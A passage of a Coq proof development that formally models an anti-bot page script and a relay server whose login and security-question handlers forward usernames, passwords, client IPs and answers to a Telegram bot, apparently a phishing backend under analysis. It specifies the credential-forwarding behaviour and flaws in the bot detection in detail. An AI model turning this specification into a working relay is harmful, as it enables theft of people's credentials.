  set (after_honeypot := runListener e website (p, noSubmission) honeypotListener).
  assert (frame (fst after_honeypot) = frame p) as Hframe1.
  { subst after_honeypot. cbn [runListener].
    by destruct (truthy (text website)). }
  destruct after_honeypot as [p1 s1]. cbn [fst] in Hframe1.
  cbn [runListener].
  pose proof (detectBot_score e p1) as Hscore.
  pose proof (detectBot_verdict e p1) as Hverdict.
  pose proof (detectBot_frame e p1) as Hframe2.
  destruct (detectBot e p1) as [p2 bot]. cbn [fst snd] in *.
  match goal with
  | |- context [ fold_left _ (map behaviorListener ?idx) (p2, ?s2) ] =>
      destruct (behavior_listeners e website idx p2 s2) as [Hs Hframe3];
      destruct (fold_left (runListener e website) (map behaviorListener idx) (p2, s2))
        as [p3 s3]
  end.
  cbn [fst snd] in *. subst s3.
  exists p3. eexists. split; [reflexivity|]. cbn [verdict scoreAtVerdict].
  split_and!; [by rewrite Hverdict | exact Hscore |].
  unfold installed.
  rewrite Hframe2 in Hframe3. injection Hframe3 as Ht Hl.
  injection Hframe1 as Ht1 Hl1.
  rewrite Hl, Ht, Hl1, Ht1, Hp.
  rewrite length_app. cbn [List.length].
  rewrite Nat.add_1_r, seq_S, map_app. reflexivity.
Qed.

Lemma step_installed (e : Environment) (p : Page) (ev : Event) :
  installed p -> installed (fst (step e p ev)).
Proof.
  intros Hp. destruct ev as [x y|now|website|now|state permission].
  - unfold installed in *. cbn [step fst trackers submitListeners].
    by rewrite length_map.
  - unfold installed in *. cbn [step fst trackers submitListeners].
    by rewrite !length_map.
  - destruct (submit_installed e website p Hp) as (p' & s & -> & _ & _ & Hp').
    exact Hp'.
  - cbn [step]. pose proof (detectBot_frame e p) as Hframe.
    destruct (detectBot e p) as [p' bot]. cbn [fst] in *.
    injection Hframe as Ht Hl.
    unfold installed in *. destruct bot; cbn [trackers submitListeners];
      rewrite Hl, Ht, Hp, length_app; cbn [List.length];
      by rewrite Nat.add_1_r, seq_S, map_app.
  - cbn [step]. destruct (pendingQueries p); [exact Hp|]. cbn [fst].
    unfold installed in *.
    match goal with
    | |- context [ addIf ?c ?w ?q ] =>
        pose proof (addIf_frame c w q) as Hframe
    end.
    injection Hframe as -> ->. exact Hp.
Qed.

Lemma play_installed (e : Environment) (events : list Event) (p : Page) :
  installed p -> installed (fst (play e p events)).
Proof.
  revert p. induction events as [|ev events IH]; intros p Hp; cbn [play].
  - exact Hp.
  - pose proof (step_installed e p ev Hp) as Hstep.
    destruct (step e p ev) as [p' o]. cbn [fst] in Hstep.
    specialize (IH p' Hstep).
    destruct (play e p' events) as [p'' os]. exact IH.
Qed.

(** Whatever happened on the page before, and whatever the honeypot
    field holds, the verdict of a submit event is the one of the signals
    of the pass alone. *)
Lemma submit_verdict (e0 e : Environment) (events : list Event) (website : string) :
  exists p' s,
    step e (fst (play e0 (initAntiBotProtection e0) events)) (submit website)
      = (p', submitted s) /\
    verdict s = Some (BOT_THRESHOLD <=? firedWeight (signals e)) /\
    scoreAtVerdict s = firedWeight (signals e).
Proof.
  destruct (submit_installed e website
              (fst (play e0 (initAntiBotProtection e0) events)))
    as (p' & s & Hstep & Hv & Hs & _).
  - apply play_installed. reflexivity.
  - eauto.
Qed.

(** ** The claims about the listeners, at the inputs where the script
       departs from them *)

(** C2, evaluated.  In a browser where no signal of a pass fires, a
    form is submitted with the honeypot field filled.  The honeypot
    listener runs first and raises the accumulator to 3; the timing
    listener runs next and calls [detectBot], whose first statement sets
    the accumulator back to 0.  The verdict is taken on 0: not bot, no
    error shown, and the delayed [fetch] of the form is set up. *)
Theorem honeypot_weight_erased :
  let p := initAntiBotProtection desktop in
  let website := "http://spam.example" in
  Forall (fun s => fst s = false) (signals desktop) /\
  submitListeners p = [ honeypotListener; timingListener ] /\
  botDetectionScore
    (fst (runListener desktop website (p, noSubmission) honeypotListener)) = 3 /\
  snd (step desktop p (submit website))
    = submitted {| defaultPrevented := true; verdict := Some false;
                   scoreAtVerdict := 0; alerted := false;
                   fetchScheduled := true |} /\
  botDetectionScore (fst (step desktop p (submit website))) = 0.
Proof.
  cbv zeta. split_and!.
  - repeat constructor.
  - reflexivity.
  - reflexivity.
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
Qed.

(** C3, evaluated.  In a browser where no signal of a pass fires and
    the mouse never moves, a form is submitted: at once, or after one
    tick of the interval.  Both times the pass of the submit event ends
    with 0, not 1: [checkBehaviorPatterns] only declares new counters and
    adds listeners.  The listener a former pass added does run at the
    submit event, after the verdict, and the next pass erases what it
    added.  The counters are those of one pass: five moves after the
    first pass are counted by its tracker and not by the tracker of the
    second pass. *)
Theorem mouse_signal_misses_the_pass :
  let p := initAntiBotProtection desktop in
  snd (step desktop p (submit ""))
    = submitted {| defaultPrevented := true; verdict := Some false;
                   scoreAtVerdict := 0; alerted := false;
                   fetchScheduled := true |} /\
  snd (play desktop p [ tick "t1"; submit "" ])
    = [ ticked false;
        submitted {| defaultPrevented := true; verdict := Some false;
                     scoreAtVerdict := 0; alerted := false;
                     fetchScheduled := true |} ] /\
  botDetectionScore (fst (play desktop p [ tick "t1"; submit "" ])) = 1 /\
  botDetectionScore (fst (play desktop p [ tick "t1"; submit ""; tick "t2" ])) = 0 /\
  map mouseMovements
    (trackers (fst (play desktop p
                      [ tick "t1"; mousemove 1 1; mousemove 2 2; mousemove 3 3;
                        mousemove 4 4; mousemove 5 5; tick "t2" ])))
    = [ 5; 0 ].
Proof.
  cbv zeta. split_and!; vm_compute; reflexivity.
Qed.

(** * Further theorems: the relay *)

(** Runs the steps of a handler on the exchange, as [exchange] does, by
    need: the header map and the strings are left as they are written. *)
Ltac unfolded :=
  lazy beta iota zeta delta
    [ run fresh mbind mret Handler_bind Handler_ret Header_Set WriteHeader Write
      log_Print do_PostForm http_Error http_Redirect securityDeliver
      fst snd w_header w_status w_body logged posted negb ].

Ltac unfolded_in H :=
  lazy beta iota zeta delta
    [ run fresh mbind mret Handler_bind Handler_ret Header_Set WriteHeader Write
      log_Print do_PostForm http_Error http_Redirect securityDeliver
      fst snd w_header w_status w_body logged posted negb app ] in H.

(** Names the exchange the pending call of [sendTelegramMessage] leaves
    and what [sendTelegramMessage_frame] says of it, then takes both
    outcomes of the call. *)
Ltac sent :=
  unfolded;
  match goal with
  | |- context [ sendTelegramMessage ?W ?text ?x ] =>
      let Hframe := fresh "Hframe" in
      pose proof (sendTelegramMessage_frame W text x) as Hframe;
      destruct (sendTelegramMessage W text x) as [?err ?x'];
      unfolded_in Hframe;
      destruct Hframe as (?Herr & ?Hhdr & ?Hst & ?Hbody & ?Hposted & ?Hlogged)
  end;
  match goal with
  | |- context [ match ?err with Some _ => _ | None => _ end ] =>
      destruct err; unfolded
  end.

(** Rewrites what is known of the exchange a delivery left. *)
Ltac known :=
  repeat match goal with
  | H : (let (w_header, _, _, _, _) := ?x in w_header) = _ |- _ =>
      rewrite H; clear H
  | H : (let (_, w_status, _, _, _) := ?x in w_status) = _ |- _ =>
      rewrite H; clear H
  | H : (let (_, _, w_body, _, _) := ?x in w_body) = _ |- _ =>
      rewrite H; clear H
  | H : (let (_, _, _, logged, _) := ?x in logged) = _ |- _ =>
      try rewrite H; clear H
  | H : (let (_, _, _, _, posted) := ?x in posted) = _ |- _ =>
      rewrite H; clear H
  end;
  unfolded.

(** Closes one branch of [handler_summary] once its exchange is a record. *)
Ltac answered :=
  unfolded; unfold answeredWell; unfolded; known;
  split_and!;
  [ vm_compute; reflexivity | vm_compute; reflexivity | vm_compute; reflexivity
  | eexists; split; [ reflexivity | cbn; auto 10 ]
  | first [ left; reflexivity | right; eexists; reflexivity ] ].

Section RelayFacts.

Context `{Lib : GoLib}.
Variable W : World.

Lemma handler_summary (h : Request -> Handler unit) (r : Request) :
  In h [ loginHandler W; securityHandler W; logBotActivityHandler W ] ->
  answeredWell W (run (h r)).
Proof.
  cbn [In]. intros [<-|[<-|[<-|[]]]].
  - unfold run, loginHandler.
    destruct (String.eqb (Method r) "OPTIONS"); [answered|].
    destruct (String.eqb (Method r) "POST"); cbn [negb]; [|answered].
    destruct (String.eqb (Header_Get r "Content-Type")
                "application/x-www-form-urlencoded").
    { destruct (ParseForm r) as [form|]; [sent; answered|answered]. }
    destruct (String.eqb (Header_Get r "Content-Type") "application/json");
      cbn [negb]; [|answered].
    destruct (Body r) as [bodyBytes|]; [|answered].
    destruct (Unmarshal_LoginRequest bodyBytes) as [req|e]; [|answered].
    destruct (String.eqb (Username req) "" || String.eqb (Password req) "");
      [answered|sent; answered].
  - unfold run, securityHandler.
    destruct (String.eqb (Method r) "OPTIONS"); [answered|].
    destruct (String.eqb (Method r) "POST"); cbn [negb]; [|answered].
    destruct (String.eqb (Header_Get r "Content-Type")
                "application/x-www-form-urlencoded").
    { destruct (ParseForm r) as [form|]; [sent; answered|answered]. }
    destruct (String.eqb (Header_Get r "Content-Type") "application/json");
      [|answered].
    destruct (Body r) as [bodyBytes|]; [|answered].
    destruct (Unmarshal_map bodyBytes) as [data|e]; [sent; answered|answered].
  - unfold run, logBotActivityHandler.
    destruct (String.eqb (Method r) "OPTIONS"); [answered|].
    destruct (String.eqb (Method r) "POST"); cbn [negb]; [|answered].
    destruct (Body r) as [bodyBytes|]; [|answered].
    destruct (Unmarshal_BotActivity bodyBytes) as [decoded|e];
      [sent; answered|answered].
Qed.

End RelayFacts.

Lemma routes_handlers `{Lib : GoLib} (W : World) (path : string)
    (h : Request -> Handler unit) :
  In (path, h) (routes W) ->
  In h [ loginHandler W; securityHandler W; logBotActivityHandler W ].
Proof. intros Hroute. apply (in_map snd) in Hroute. exact Hroute. Qed.

(** X1.  Whatever the request (method, content type, body) and whatever
    the messaging API does, each of the three handlers ends with a status
    written, taken from 200, 303, 400, 405, 415 and 500, and with the
    three cross-origin headers set to the values of its first lines. *)
Theorem handlers_answer_with_cors `{Lib : GoLib} (W : World) (path : string)
    (h : Request -> Handler unit) (r : Request) :
  In (path, h) (routes W) ->
  (w_header (run (h r)) !! "Access-Control-Allow-Origin") = Some "*" /\
  (w_header (run (h r)) !! "Access-Control-Allow-Methods") = Some "POST, OPTIONS" /\
  (w_header (run (h r)) !! "Access-Control-Allow-Headers") = Some "Content-Type" /\
  exists c, w_status (run (h r)) = Some c /\ In c statusCodes.
Proof.
  intros Hroute.
  destruct (handler_summary W h r (routes_handlers W path h Hroute))
    as (? & ? & ? & ? & _).
  auto.
Qed.

Lemma handlers_answer_with_cors_witness :
  (w_header (run (securityHandler worldDown (request "DELETE" "/security" "" "")))
     !! "Access-Control-Allow-Origin") = Some "*".
Proof.
  refine (proj1 (handlers_answer_with_cors worldDown "/security" _
                   (request "DELETE" "/security" "" "") _)).
  cbn. auto.
Defined.

(** X2.  One request makes at most one outbound call, and never to
    another URL than the sendMessage URL of the configured token; a
    server without the two variables makes none. *)
Theorem handlers_post_at_most_once `{Lib : GoLib} (W : World) (path : string)
    (h : Request -> Handler unit) (r : Request) :
  In (path, h) (routes W) ->
  (List.length (posted (run (h r))) <= 1)%nat /\
  Forall (fun call => fst call = apiURL W) (posted (run (h r))) /\
  (configured W = false -> posted (run (h r)) = []).
Proof.
  intros Hroute.
  destruct (handler_summary W h r (routes_handlers W path h Hroute))
    as (_ & _ & _ & _ & [->|[text ->]]).
  - split_and!; [cbn; lia | constructor | reflexivity].
  - unfold deliveries. destruct (configured W).
    + split_and!; [cbn; lia | repeat constructor | discriminate].
    + split_and!; [cbn; lia | constructor | reflexivity].
Qed.

Lemma handlers_post_at_most_once_witness :
  (List.length (posted (run (loginHandler worldUp (jsonPost "/login" aliceBody))))
   <= 1)%nat.
Proof.
  refine (proj1 (handlers_post_at_most_once worldUp "/login" _
                   (jsonPost "/login" aliceBody) _)).
  cbn. auto.
Defined.

(** X3.  [loginHandler] and [securityHandler] compare the Content-Type
    header with the two literal strings: a POST with any other value
    (a parameter after the media type included, or the multipart type of
    a FormData body) is answered 415 before the body is read, nothing is
    posted and nothing is logged. *)
Theorem unsupported_media_type `{Lib : GoLib} (W : World) (r : Request) :
  Method r = "POST" ->
  Header_Get r "Content-Type" <> "application/x-www-form-urlencoded" ->
  Header_Get r "Content-Type" <> "application/json" ->
  (w_status (run (loginHandler W r)) = Some StatusUnsupportedMediaType /\
   posted (run (loginHandler W r)) = [] /\
   logged (run (loginHandler W r)) = []) /\
  (w_status (run (securityHandler W r)) = Some StatusUnsupportedMediaType /\
   posted (run (securityHandler W r)) = [] /\
   logged (run (securityHandler W r)) = []).
Proof.
  intros Hm Hform Hjson.
  apply String.eqb_neq in Hform, Hjson.
  split; unfold run, loginHandler, securityHandler;
    rewrite Hm; cbn [String.eqb Ascii.eqb Bool.eqb negb];
    exchange; rewrite Hform, Hjson; exchange; auto.
Qed.

Lemma unsupported_media_type_witness :
  w_status (run (loginHandler worldUp
                   (request "POST" "/login"
                      "multipart/form-data; boundary=----WebKitFormBoundary" "")))
    = Some StatusUnsupportedMediaType /\
  w_status (run (securityHandler worldUp
                   (request "POST" "/security"
                      "application/json; charset=utf-8" blankAnswersBody)))
    = Some StatusUnsupportedMediaType.
Proof.
  split.
  - refine (proj1 (proj1 (unsupported_media_type worldUp
              (request "POST" "/login"
                 "multipart/form-data; boundary=----WebKitFormBoundary" "")
              _ _ _))); [reflexivity | discriminate | discriminate].
  - refine (proj1 (proj2 (unsupported_media_type worldUp
              (request "POST" "/security"
                 "application/json; charset=utf-8" blankAnswersBody)
              _ _ _))); [reflexivity | discriminate | discriminate].
Defined.

(** X4.  Input a handler cannot parse is refused with 400 and nothing is
    posted: a form body [ParseForm] rejects, a body that cannot be read,
    a JSON body the decoder rejects.  [loginHandler] sends the text of
    the decoder error back to the client; the other two send a fixed
    text. *)
Theorem malformed_input_rejected `{Lib : GoLib} (W : World) (r : Request) :
  Method r = "POST" ->
  ((Header_Get r "Content-Type" = "application/x-www-form-urlencoded" /\
    ParseForm r = None) \/
   (Header_Get r "Content-Type" = "application/json" /\ Body r = None) ->
   (w_status (run (loginHandler W r)) = Some StatusBadRequest /\
    posted (run (loginHandler W r)) = []) /\
   (w_status (run (securityHandler W r)) = Some StatusBadRequest /\
    posted (run (securityHandler W r)) = [])) /\
  (forall bodyBytes e,
     Header_Get r "Content-Type" = "application/json" ->
     Body r = Some bodyBytes ->
     Unmarshal_LoginRequest bodyBytes = inr e ->
     w_status (run (loginHandler W r)) = Some StatusBadRequest /\
     w_body (run (loginHandler W r)) = "Bad Request: Invalid JSON - " ++ e ++ newline /\
     posted (run (loginHandler W r)) = []) /\
  (forall bodyBytes e,
     Header_Get r "Content-Type" = "application/json" ->
     Body r = Some bodyBytes ->
     Unmarshal_map bodyBytes = inr e ->
     w_status (run (securityHandler W r)) = Some StatusBadRequest /\
     w_body (run (securityHandler W r)) = "Invalid JSON" ++ newline /\
     posted (run (securityHandler W r)) = []) /\
  (Body r = None \/
   (exists bodyBytes e, Body r = Some bodyBytes /\
      Unmarshal_BotActivity bodyBytes = inr e) ->
   w_status (run (logBotActivityHandler W r)) = Some StatusBadRequest /\
   posted (run (logBotActivityHandler W r)) = []).
Proof.
  intros Hm. split_and!.
  - intros [[Hct Hform]|[Hct Hbody]];
      unfold run, loginHandler, securityHandler;
      rewrite Hm, Hct; [rewrite Hform | rewrite Hbody]; exchange; auto.
  - intros bodyBytes e Hct Hbody Herr. unfold run, loginHandler.
    rewrite Hm, Hct, Hbody, Herr. exchange.
    split_and!; [done | | done].
    change (String "B" ?s) with ("B" ++ s). reflexivity.
  - intros bodyBytes e Hct Hbody Herr. unfold run, securityHandler.
    rewrite Hm, Hct, Hbody, Herr. exchange. auto.
  - intros [Hbody|(bodyBytes & e & Hbody & Herr)];
      unfold run, logBotActivityHandler; rewrite Hm, Hbody;
      [|rewrite Herr]; exchange; auto.
Qed.

Lemma malformed_input_rejected_witness :
  w_status (run (logBotActivityHandler worldUp
                   (jsonPost "/log-bot-activity" "{not json")))
    = Some StatusBadRequest /\
  posted (run (logBotActivityHandler worldUp
                 (jsonPost "/log-bot-activity" "{not json"))) = [].
Proof.
  refine (proj2 (proj2 (proj2 (malformed_input_rejected worldUp
            (jsonPost "/log-bot-activity" "{not json") _))) _).
  - reflexivity.
  - right. eexists. eexists. split; reflexivity.
Defined.

(** *** The form [sendTelegramMessage] posts *)

Lemma telegramForm_fields (W : World) (text : string) :
  telegramForm W text
  = <[ "parse_mode" := [ "HTML" ] ]>
      (<[ "text" := [ text ] ]>
         (<[ "chat_id" := [ Getenv W "TELEGRAM_CHAT_ID" ] ]> ∅)).
Proof.
  unfold telegramForm, Values_Add.
  rewrite lookup_insert_ne by done. rewrite lookup_insert_ne by done.
  rewrite lookup_insert_ne by done.
  rewrite !lookup_empty. reflexivity.
Qed.

(** X5.  On a configured server one call of [sendTelegramMessage] adds
    exactly one outbound call, to the sendMessage URL, and the form it
    posts reads back as it was filled: the chat id of the environment,
    the text unchanged, the parse mode HTML, one value each and no other
    key. *)
Theorem posted_form_fields (W : World) (text : string) (x : Exchange) :
  configured W = true ->
  exists form,
    posted (snd (sendTelegramMessage W text x))
      = (posted x ++ [ (apiURL W, form) ])%list /\
    form !! "chat_id" = Some [ Getenv W "TELEGRAM_CHAT_ID" ] /\
    form !! "text" = Some [ text ] /\
    form !! "parse_mode" = Some [ "HTML" ] /\
    Values_Get form "text" = text /\
    dom form = ({[ "chat_id"; "text"; "parse_mode" ]} : gset string).
Proof.
  intros Hconf. exists (telegramForm W text).
  destruct (sendTelegramMessage_frame W text x) as (_ & _ & _ & _ & Hposted & _).
  rewrite Hposted. unfold deliveries. rewrite Hconf.
  rewrite telegramForm_fields. unfold Values_Get.
  split_and!.
  - reflexivity.
  - rewrite lookup_insert_ne by done. rewrite lookup_insert_ne by done.
    apply lookup_insert_eq.
  - rewrite lookup_insert_ne by done. apply lookup_insert_eq.
  - apply lookup_insert_eq.
  - rewrite lookup_insert_ne by done. by rewrite lookup_insert_eq.
  - rewrite !dom_insert_L, dom_empty_L. set_solver.
Qed.

Lemma posted_form_fields_witness :
  exists form,
    posted (snd (sendTelegramMessage worldUp "<b>hello</b> & more" fresh))
      = [ (apiURL worldUp, form) ] /\
    Values_Get form "text" = "<b>hello</b> & more".
Proof.
  destruct (posted_form_fields worldUp "<b>hello</b> & more" fresh)
    as (form & Hposted & _ & _ & _ & Htext & _).
  - reflexivity.
  - exists form. split; assumption.
Defined.

(** X6.  For a JSON login with both fields set on a configured server,
    the answer follows the messaging API alone: 200 with the success
    body that carries the username exactly when the API answers 200, and
    500 with the fixed error body for every other outcome (another 2xx
    status included); in both cases the message was posted once. *)
Theorem login_status_follows_api `{Lib : GoLib} (W : World) (r : Request)
    (bodyBytes : string) (req : LoginRequest) :
  Method r = "POST" ->
  Header_Get r "Content-Type" = "application/json" ->
  Body r = Some bodyBytes ->
  Unmarshal_LoginRequest bodyBytes = inl req ->
  Username req <> "" -> Password req <> "" ->
  configured W = true ->
  let message :=
    loginMessage (Username req) (Password req) (clientIP r)
      (Format_RFC3339 (Now W)) in
  let answered200 :=
    exists body,
      PostForm W (apiURL W) (telegramForm W message) = PostResponds StatusOK body in
  posted (run (loginHandler W r)) = [ (apiURL W, telegramForm W message) ] /\
  (answered200 ->
   w_status (run (loginHandler W r)) = Some StatusOK /\
   w_body (run (loginHandler W r)) = loginSuccessBody (Username req)) /\
  (~ answered200 ->
   w_status (run (loginHandler W r)) = Some StatusInternalServerError /\
   w_body (run (loginHandler W r)) = loginFailureBody).
Proof.
  intros Hm Hct Hbody Hreq Hu Hp Hconf message answered200.
  destruct (login_json W r bodyBytes req Hm Hct Hbody Hreq Hu Hp)
    as (Hposted & Hfail & Hok).
  fold message in Hposted, Hfail, Hok.
  split_and!.
  - rewrite Hposted. unfold deliveries. by rewrite Hconf.
  - intros Hanswer. apply Hok. apply deliveryError_None. auto.
  - intros Hnot. destruct (deliveryError W message) as [e|] eqn:Herr.
    + destruct (Hfail e eq_refl) as (? & ? & _). auto.
    + exfalso. apply Hnot. by apply deliveryError_None in Herr as [_ ?].
Qed.

Lemma login_status_follows_api_witness :
  w_status (run (loginHandler
                   {| Getenv := exampleEnv; Now := epoch;
                      PostForm := fun _ _ => PostResponds 204 "" |}
                   (jsonPost "/login" aliceBody)))
    = Some StatusInternalServerError.
Proof.
  refine (proj1 (proj2 (proj2 (login_status_follows_api
            {| Getenv := exampleEnv; Now := epoch;
               PostForm := fun _ _ => PostResponds 204 "" |}
            (jsonPost "/login" aliceBody) aliceBody
            {| Username := "alice"; Password := "hunter2"; SecurityAnswers := [] |}
            _ _ _ _ _ _ _)) _)).
  - reflexivity.
  - reflexivity.
  - reflexivity.
  - vm_compute. reflexivity.
  - discriminate.
  - discriminate.
  - reflexivity.
  - intros [body Hbody]. discriminate Hbody.
Defined.

(** *** The client address *)

Lemma Split_first_field (s : string) (sep : ascii) :
  first_field sep (index0 (Split s sep)) s.
Proof.
  unfold first_field, index0. induction s as [|c s [IHbyte IHsplit]].
  - cbn. auto.
  - cbn [Split]. destruct (Ascii.eqb c sep) eqn:Hc.
    + apply Ascii.eqb_eq in Hc. subst c. cbn. split; [reflexivity|].
      right. exists s. reflexivity.
    + pose proof (Split_not_nil s sep) as Hnil.
      destruct (Split s sep) as [|field fields]; [congruence|].
      cbn [hd] in *. cbn [has_byte]. rewrite Hc, IHbyte.
      split; [reflexivity|].
      destruct IHsplit as [->|[rest ->]]; [left; reflexivity|].
      right. exists rest. reflexivity.
Qed.

(** X7.  The address a handler reports is taken from the
    X-Forwarded-For header whenever the header is set, whatever
    [r.RemoteAddr] holds: it is the header up to its first comma.
    Without the header it is [r.RemoteAddr] up to its first colon.  In
    both cases nothing is trimmed and the result holds no separator. *)
Theorem clientIP_first_field (r : Request) :
  (Header_Get r "X-Forwarded-For" <> "" ->
   first_field comma (clientIP r) (Header_Get r "X-Forwarded-For") /\
   forall r', Header_Get r' "X-Forwarded-For" = Header_Get r "X-Forwarded-For" ->
              clientIP r' = clientIP r) /\
  (Header_Get r "X-Forwarded-For" = "" ->
   first_field colon (clientIP r) (RemoteAddr r)).
Proof.
  unfold clientIP, nonempty. split.
  - intros Hset. pose proof Hset as Hset'. apply String.eqb_neq in Hset'.
    rewrite Hset'. cbn [negb]. split; [apply Split_first_field|].
    intros r' ->. rewrite Hset'. reflexivity.
  - intros ->. cbn [String.eqb negb]. apply Split_first_field.
Qed.

Lemma clientIP_first_field_witness :
  first_field comma
    (clientIP {| Method := "POST"; URL := "/login";
                 Header := {[ "X-Forwarded-For" := "198.51.100.4, 10.0.0.1" ]};
                 RemoteAddr := "[2001:db8::1]:443"; Body := None |})
    "198.51.100.4, 10.0.0.1" /\
  first_field colon
    (clientIP {| Method := "POST"; URL := "/login"; Header := ∅;
                 RemoteAddr := "[2001:db8::1]:443"; Body := None |})
    "[2001:db8::1]:443".
Proof.
  split.
  - refine (proj1 (proj1 (clientIP_first_field
              {| Method := "POST"; URL := "/login";
                 Header := {[ "X-Forwarded-For" := "198.51.100.4, 10.0.0.1" ]};
                 RemoteAddr := "[2001:db8::1]:443"; Body := None |}) _)).
    discriminate.
  - refine (proj2 (clientIP_first_field
              {| Method := "POST"; URL := "/login"; Header := ∅;
                 RemoteAddr := "[2001:db8::1]:443"; Body := None |}) _).
    reflexivity.
Defined.

(** *** [main] *)

(** X8.  When [main] reaches [ListenAndServe], it serves the three
    routes on the address made of a colon and the port, 8080 when PORT
    is unset, and the guard it passed makes the credential check of
    [sendTelegramMessage] dead: every call posts the message once and
    never returns the error of missing credentials. *)
Theorem started_server_delivers `{Lib : GoLib} (W : World) (addr : string)
    (mux : list (string * (Request -> Handler unit))) :
  main W = ListenAndServe addr mux ->
  mux = routes W /\
  addr = ":" ++ (if String.eqb (Getenv W "PORT") "" then "8080" else Getenv W "PORT") /\
  addr <> ":" /\
  forall text x,
    fst (sendTelegramMessage W text x) <> Some "telegram credentials not set" /\
    posted (snd (sendTelegramMessage W text x))
      = (posted x ++ [ (apiURL W, telegramForm W text) ])%list.
Proof.
  unfold main. intros Hmain.
  destruct (String.eqb (Getenv W "TELEGRAM_BOT_TOKEN") ""
            || String.eqb (Getenv W "TELEGRAM_CHAT_ID") "") eqn:Hcreds;
    [discriminate|].
  injection Hmain as <- <-.
  apply orb_false_iff in Hcreds as [Htoken Hchat].
  split_and!.
  - reflexivity.
  - reflexivity.
  - destruct (String.eqb (Getenv W "PORT") "") eqn:Hport.
    + discriminate.
    + apply String.eqb_neq in Hport.
      destruct (Getenv W "PORT"); [congruence | discriminate].
  - intros text x.
    destruct (sendTelegramMessage_frame W text x) as (Herr & _ & _ & _ & Hposted & _).
    rewrite Herr, Hposted. split.
    + unfold deliveryError, sendTelegramMessage. rewrite Htoken, Hchat.
      exchange. destruct (PostForm W _ _) as [err|code body]; exchange.
      * discriminate.
      * destruct (code =? StatusOK); exchange; discriminate.
    + unfold deliveries, configured, nonempty. by rewrite Htoken, Hchat.
Qed.

Lemma started_server_delivers_witness :
  exists addr mux,
    main worldUp = ListenAndServe addr mux /\ addr = ":8080" /\ mux = routes worldUp.
Proof.
  exists ":8080", (routes worldUp).
  destruct (started_server_delivers worldUp ":8080" (routes worldUp))
    as (Hmux & Haddr & _).
  - reflexivity.
  - split_and!; reflexivity.
Defined.

(** *** The two encodings of /security, and the address of a report *)

(** X16.  [securityHandler] treats its two encodings alike, and an
    absent field like an empty one: two POST requests it can parse that
    yield the same three answers and the same client address end in the
    same exchange (status, headers, body, log and outbound call),
    whichever of the form and the JSON encoding each of them uses. *)
Theorem security_encodings_agree `{Lib : GoLib} (W : World) (r r' : Request)
    (answer1 answer2 answer3 : string) :
  Method r = "POST" -> Method r' = "POST" ->
  parsedAnswers r answer1 answer2 answer3 ->
  parsedAnswers r' answer1 answer2 answer3 ->
  clientIP r = clientIP r' ->
  run (securityHandler W r) = run (securityHandler W r').
Proof.
  intros Hm Hm' Hparsed Hparsed' Hip.
  rewrite (security_parsed W r answer1 answer2 answer3 Hm Hparsed).
  rewrite (security_parsed W r' answer1 answer2 answer3 Hm' Hparsed').
  unfold securityDeliver. rewrite Hip. reflexivity.
Qed.

Lemma security_encodings_agree_witness :
  run (securityHandler worldUp
         (formPost "/security" "answer1=&answer2=&answer3="))
  = run (securityHandler worldUp (jsonPost "/security" blankAnswersBody)).
Proof.
  apply (security_encodings_agree worldUp
           (formPost "/security" "answer1=&answer2=&answer3=")
           (jsonPost "/security" blankAnswersBody) "" "" "").
  - reflexivity.
  - reflexivity.
  - left. split; [reflexivity|]. eexists. split; [reflexivity|].
    split_and!; vm_compute; reflexivity.
  - right. split; [reflexivity|].
    exists blankAnswersBody.
    exists (<[ "answer1" := "" ]> (<[ "answer2" := "" ]> (<[ "answer3" := "" ]> ∅))).
    split_and!; vm_compute; reflexivity.
  - reflexivity.
Defined.

(** X17.  The address in a report of bot activity is the one the
    handler computes from the connection and the X-Forwarded-For header;
    an [ip] member of the body is overwritten.  The exchange depends on
    the decoded score, fingerprint and timestamp and on that address
    alone, and the message posted is built from them. *)
Theorem report_ip_from_connection `{Lib : GoLib} (W : World) (r r' : Request)
    (bodyBytes bodyBytes' : string) (decoded decoded' : BotActivity) :
  Method r = "POST" -> Body r = Some bodyBytes ->
  Unmarshal_BotActivity bodyBytes = inl decoded ->
  Method r' = "POST" -> Body r' = Some bodyBytes' ->
  Unmarshal_BotActivity bodyBytes' = inl decoded' ->
  Score decoded' = Score decoded ->
  Fingerprint decoded' = Fingerprint decoded ->
  Timestamp decoded' = Timestamp decoded ->
  clientIP r' = clientIP r ->
  run (logBotActivityHandler W r') = run (logBotActivityHandler W r) /\
  IP (received r decoded) = clientIP r /\
  posted (run (logBotActivityHandler W r))
    = deliveries W (botActivityMessage (received r decoded)).
Proof.
  intros Hm Hbody Hdec Hm' Hbody' Hdec' Hscore Hfp Hts Hip.
  split_and!.
  - unfold run, logBotActivityHandler.
    rewrite Hm, Hm', Hbody, Hbody', Hdec, Hdec', Hscore, Hfp, Hts, Hip.
    reflexivity.
  - reflexivity.
  - by destruct (report_decoded W r bodyBytes decoded Hm Hbody Hdec)
      as (_ & _ & _ & ? & _).
Qed.

Lemma report_ip_from_connection_witness :
  run (logBotActivityHandler worldUp
         {| Method := "POST"; URL := "/log-bot-activity"; Header := ∅;
            RemoteAddr := "203.0.113.7:40000"; Body := Some reportBody |})
  = run (logBotActivityHandler worldUp (jsonPost "/log-bot-activity" reportBody)).
Proof.
  refine (proj1 (report_ip_from_connection worldUp
            (jsonPost "/log-bot-activity" reportBody)
            {| Method := "POST"; URL := "/log-bot-activity"; Header := ∅;
               RemoteAddr := "203.0.113.7:40000"; Body := Some reportBody |}
            reportBody reportBody
            {| Score := 4; Fingerprint := "fp"; Timestamp := epoch; IP := "" |}
            {| Score := 4; Fingerprint := "fp"; Timestamp := epoch; IP := "" |}
            _ _ _ _ _ _ _ _ _ _)); reflexivity.
Defined.

(** * Further theorems: the scoring script *)

(** *** The score of a pass *)

Lemma firedWeight_upper (l : list (bool * Z)) :
  Forall (fun s => 0 <= snd s) l ->
  firedWeight l <= fold_right Z.add 0 (map snd l).
Proof.
  induction 1 as [|[f w] l Hw _ IH]; cbn in *; [lia|].
  destruct f; lia.
Qed.

Lemma firedWeight_count (l : list (bool * Z)) :
  Forall (fun s => snd s <= 2) l ->
  firedWeight l <= 2 * Z.of_nat (fired (map fst l)).
Proof.
  unfold fired.
  induction 1 as [|[f w] l Hw _ IH];
    cbn [map fst snd firedWeight List.filter] in *; [cbn; lia|].
  destruct f; cbn [List.length] in *; lia.
Qed.

Lemma signals_weights (e : Environment) :
  map snd (signals e) = [ 2; 2; 2; 2; 2; 1; 1; 2; 2; 1; 1 ].
Proof. reflexivity. Qed.

(** X9.  The score [detectBot] compares lies between 0 and 18, and no
    signal reaches the threshold by itself: a pass answers bot only when
